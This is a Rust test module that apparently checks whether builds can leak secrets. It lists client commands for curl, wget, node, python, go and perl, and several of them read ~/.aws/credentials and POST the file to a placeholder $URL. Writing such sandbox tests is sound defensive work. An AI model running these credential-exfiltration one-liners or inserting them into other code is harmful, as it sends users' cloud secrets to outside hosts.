//! The clients, as a build runs them. Each reads a credential before it asks for a name: what it sends itself, or its own settings.

/// A client.
pub(super) struct Client {
    /// Names it.
    pub(super) name: &'static str,
    /// The program that it takes.
    pub(super) tool: &'static str,
    /// A shell's words; `$URL` is where it goes.
    pub(super) words: &'static str,
}

pub(super) const CURL: Client = Client {
    name: "curl",
    tool: "curl",
    words: "curl -sS --fail --max-time 5 -o /dev/null --data-binary @\"$HOME/.aws/credentials\" \"$URL/x\"",
};
pub(super) const WGET: Client = Client {
    name: "wget",
    tool: "wget",
    words: "wget -q --tries=1 --timeout=5 -O /dev/null --post-file=\"$HOME/.aws/credentials\" \"$URL/x\"",
};
/// libcurl reads `.netrc` for it.
pub(super) const GIT: Client = Client {
    name: "git",
    tool: "git",
    words: "clone=$(mktemp -d) && git clone -q \"$URL/repo.git\" \"$clone\" && test -f \"$clone/README\"",
};
/// It reads `.npmrc`.
pub(super) const NPM: Client = Client {
    name: "npm",
    tool: "npm",
    words: "npm view demo version --registry=\"$URL/\" --fetch-retries=0 --fetch-timeout=5000 --no-update-notifier",
};
/// It reads `.netrc`.
pub(super) const PIP: Client = Client {
    name: "pip",
    tool: "pip3",
    words: "pip3 --disable-pip-version-check --no-cache-dir --retries 0 --timeout 5 index versions demo \
        --index-url \"$URL/simple\" --trusted-host \"$HOST\"",
};
pub(super) const NODE: Client = Client {
    name: "node fetch",
    tool: "node",
    words: "node -e 'const body = require(\"fs\").readFileSync(process.env.HOME + \"/.aws/credentials\");
        fetch(process.env.URL + \"/x\", { method: \"POST\", body }).then(r => process.exit(r.ok ? 0 : 1))'",
};
pub(super) const NODE_HTTP: Client = Client {
    name: "node http",
    tool: "node",
    words: "node -e 'const body = require(\"fs\").readFileSync(process.env.HOME + \"/.aws/credentials\");
        const to = require(\"http\").request(process.env.URL + \"/x\", { method: \"POST\" });
        to.on(\"response\", r => process.exit(r.statusCode == 200 ? 0 : 1)).end(body)'",
};
pub(super) const URLLIB: Client = Client {
    name: "python urllib",
    tool: "python3",
    words: "python3 -c 'import os, urllib.request
body = open(os.environ[\"HOME\"] + \"/.aws/credentials\", \"rb\").read()
urllib.request.urlopen(os.environ[\"URL\"] + \"/x\", body, 5)'",
};
pub(super) const HTTP_CLIENT: Client = Client {
    name: "python http.client",
    tool: "python3",
    words: "python3 -c 'import os, http.client
body = open(os.environ[\"HOME\"] + \"/.aws/credentials\", \"rb\").read()
to = http.client.HTTPConnection(os.environ[\"URL\"].split(\"/\")[2], timeout=5)
to.request(\"POST\", \"/x\", body)
assert to.getresponse().status == 200'",
};
/// `$GO` is the program that the test builds.
pub(super) const GO: Client =
    Client { name: "go", tool: "go", words: "GODEBUG=netdns=go \"$GO\" \"$URL/x\" \"$HOME/.aws/credentials\"" };
pub(super) const GO_CGO: Client = Client {
    name: "go with the C library's resolver",
    tool: "gcc",
    words: "GODEBUG=netdns=cgo \"$GO\" \"$URL/x\" \"$HOME/.aws/credentials\"",
};
pub(super) const PERL: Client = Client {
    name: "perl",
    tool: "perl",
    words: "perl -MHTTP::Tiny -e 'local $/; open my $file, \"<\", \"$ENV{HOME}/.aws/credentials\" or die;
        my $told = HTTP::Tiny->new(timeout => 5)->post(\"$ENV{URL}/x\", { content => <$file> });
        exit !$told->{success}'",
};
